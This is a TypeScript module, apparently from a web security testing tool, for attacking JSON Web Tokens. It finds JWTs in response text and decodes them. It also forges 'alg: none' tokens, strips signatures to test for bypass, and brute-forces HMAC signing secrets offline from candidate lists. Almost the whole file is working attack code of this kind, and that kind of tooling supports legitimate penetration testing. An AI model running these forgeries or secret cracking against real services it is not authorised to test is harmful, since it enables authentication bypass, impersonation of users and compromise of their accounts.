import { fromBase64Url, parseJsonObject, toBase64Url } from './base64url';
import { FixedMessageHmac, type HmacAlgorithm } from './fast-hmac';

export interface DecodedJwt {
  token: string;
  header: Record<string, unknown>;
  claims: Record<string, unknown>;
  signature: Buffer;
}

const hmacAlgorithms: Record<string, HmacAlgorithm> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };

export function decodeJwt(token: string): DecodedJwt | undefined {
  const parts = token.split('.');
  if (parts.length !== 3) {
    return undefined;
  }
  const headerRaw = fromBase64Url(parts[0]);
  const claimsRaw = fromBase64Url(parts[1]);
  const signature = fromBase64Url(parts[2]);
  const header = headerRaw && parseJsonObject(headerRaw);
  const claims = claimsRaw && parseJsonObject(claimsRaw);
  if (!header || !claims || !signature || typeof header.alg !== 'string') {
    return undefined;
  }
  return { token, header, claims, signature };
}

/** JWT-shaped strings inside a response body or header (they always start with `{"`, base64 `eyJ`). */
export function findJwts(text: string): DecodedJwt[] {
  const found = text.match(/eyJ[A-Za-z0-9_-]{5,}\.eyJ[A-Za-z0-9_-]*\.[A-Za-z0-9_-]*/g) ?? [];
  return [...new Set(found)].map(decodeJwt).filter((jwt): jwt is DecodedJwt => jwt !== undefined);
}

/** The same claims under `alg: none`, with no signature. */
export function forgeAlgNone(jwt: DecodedJwt): string {
  const header = toBase64Url(JSON.stringify({ ...jwt.header, alg: 'none' }));
  return `${header}.${jwt.token.split('.')[1]}.`;
}

/** The original header and claims with the signature removed. */
export function stripSignature(jwt: DecodedJwt): string {
  const [header, claims] = jwt.token.split('.');
  return `${header}.${claims}.`;
}

export function isHmacJwt(jwt: DecodedJwt): boolean {
  return String(jwt.header.alg) in hmacAlgorithms;
}

/** Offline: the HMAC secret among the candidates that verifies the token's signature. */
export function crackJwt(jwt: DecodedJwt, candidates: readonly Buffer[]): Buffer | undefined {
  const algorithm = hmacAlgorithms[String(jwt.header.alg)];
  if (!algorithm) {
    return undefined;
  }
  const signingInput = jwt.token.slice(0, jwt.token.lastIndexOf('.'));
  const hmac = new FixedMessageHmac(algorithm, Buffer.from(signingInput));
  return candidates.find((secret) => hmac.digest(secret).equals(jwt.signature));
}
